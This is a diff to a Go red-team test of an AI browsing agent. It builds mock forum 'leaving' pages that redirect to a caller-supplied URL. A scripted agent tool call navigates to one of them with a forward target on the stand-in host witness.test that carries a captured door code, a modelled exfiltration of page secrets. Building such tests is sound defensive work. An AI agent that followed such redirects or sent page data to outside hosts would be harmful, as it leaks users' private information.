@@ -60,7 +60,7 @@ func rtForum(rec *rtForumRecord) http.Handler {
 	mux := http.NewServeMux()
 	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) { htmlPage(w, rtForumPage) })
 	mux.HandleFunc("/leaving", func(w http.ResponseWriter, r *http.Request) {
-		to := r.URL.Query().Get("to")
+		to := rtForwardTo(r)
 		htmlPage(w, `<!doctype html><html><head><meta charset="utf-8"><title>Leaving the forum</title>
 <meta http-equiv="refresh" content="4;url=`+strings.ReplaceAll(to, `"`, "&quot;")+`"></head><body>
 <h1>You are leaving the forum</h1><p>You will be taken there in a few seconds.</p>
@@ -71,10 +71,10 @@ func rtForum(rec *rtForumRecord) http.Handler {
 		htmlPage(w, `<!doctype html><html><head><meta charset="utf-8"><title>Leaving the forum</title></head><body>
 <h1>You are leaving the forum</h1><p>You will be taken there in a few seconds.</p>
 <script>document.body.dataset.pageScript = 'ran';
-setTimeout(function () { location.href = new URLSearchParams(location.search).get('to'); }, 4000);</script></body></html>`)
+setTimeout(function () { location.href = `+rtForwardJS(r)+`; }, 4000);</script></body></html>`)
 	})
 	mux.HandleFunc("/leaving-hdr", func(w http.ResponseWriter, r *http.Request) {
-		w.Header().Set("Refresh", "4; url="+r.URL.Query().Get("to"))
+		w.Header().Set("Refresh", "4; url="+rtForwardTo(r))
 		htmlPage(w, `<!doctype html><html><head><meta charset="utf-8"><title>Leaving the forum</title></head><body>
 <h1>You are leaving the forum</h1><script>document.body.dataset.pageScript = 'ran';</script></body></html>`)
 	})
@@ -376,7 +376,7 @@ func TestRedteamAgentLeavingPage(t *testing.T) {
 			rec := &rtForumRecord{}
 			aw := newAgentWorld(t, `{"turns": [
 				{"tool_calls": [{"name": "capture_page"}]},
-				{"tool_calls": [{"name": "navigate", "arguments": {"url": "`+tt.path+`?to=https://witness.test/meta?d={{grab:door code is ([0-9]+)}}"}}]},
+				{"tool_calls": [{"name": "navigate", "arguments": {"url": "`+tt.path+`?`+rtTox("https://witness.test/meta?d=", "{{grab:door code is ([0-9]+)}}")+`"}}]},
 				{"tool_calls": [{"name": "wait_for", "arguments": {"text": "never on the page", "timeoutMs": 10000}}]},
 				{"text": "Opened."}
 			]}`, map[string]http.Handler{"forum.test": rtForum(rec)})
